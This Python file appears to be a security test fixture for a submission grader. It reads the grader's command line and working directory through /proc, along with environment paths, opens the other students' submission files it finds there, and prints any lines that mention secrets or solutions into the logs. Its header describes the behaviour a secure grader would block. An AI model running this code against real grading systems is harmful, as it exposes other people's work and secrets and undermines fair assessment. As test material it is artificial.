# ATTACK (machine): reads classmates' submissions. The submissions folder comes from the grader's command
# line (/proc/<ppid>/cmdline, relative to /proc/<ppid>/cwd) and from the environment (PWD, OLDPWD); every
# file there is read and its text printed (the printed tail ends up in results.json and output.log).
# A secure grader: the learner's process sees no other submission; nothing of them appears anywhere in
# the --out folder.
import os


def _grader():
    """The grading process: its pid, command line and working directory (today, the worker's parent)."""
    pid = os.getppid()
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            args = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        args, cwd = [], "/"
    return pid, args, cwd


def _out_dir():
    """The --out folder: from the log file the grader gave us as stdout (<out>/<name>/output.log), else
    from the grader's command line."""
    try:
        log = os.readlink("/proc/self/fd/1")
        if log.endswith("/output.log"):
            return os.path.dirname(os.path.dirname(log)), os.path.basename(os.path.dirname(log))
    except OSError:
        pass
    _, args, cwd = _grader()
    for i, a in enumerate(args):
        if a == "--out" and i + 1 < len(args):
            return os.path.join(cwd, args[i + 1]), None
        if a.startswith("--out="):
            return os.path.join(cwd, a[6:]), None
    return None, None


def _steal():
    pid, args, cwd = _grader()
    folders = []  # the submissions' folders first, then any other folder the command line names
    for a in args:
        p = os.path.join(cwd, a)
        if a.endswith((".py", ".ipynb")) and os.path.isfile(p) and os.path.dirname(os.path.abspath(p)) not in folders:
            folders.append(os.path.dirname(os.path.abspath(p)))
    for a in args + [os.environ.get("PWD", ""), os.environ.get("OLDPWD", "")]:
        p = os.path.abspath(os.path.join(cwd, a)) if a else ""
        if p and p != "/" and os.path.isdir(p) and p not in folders:
            folders.append(p)
    found = []
    for d in folders:
        try:
            names = sorted(os.listdir(d))
        except OSError:
            continue
        for name in names:
            p = os.path.join(d, name)
            if not os.path.isfile(p) or not name.endswith((".py", ".ipynb")):
                continue
            try:
                with open(p, errors="replace") as f:
                    text = f.read(20000)
            except OSError:
                continue
            print(f"ATTACK read_classmates: read {p} ({len(text)} chars)", flush=True)
            found += [f"{name}: {line.strip()}" for line in text.splitlines()
                      if "SECRET" in line or "solution" in line.lower() and line.lstrip().startswith("#")]
    print(f"ATTACK read_classmates: looked in {folders}", flush=True)
    for line in found[:12]:
        print("ATTACK read_classmates: " + line[:200], flush=True)

_steal()
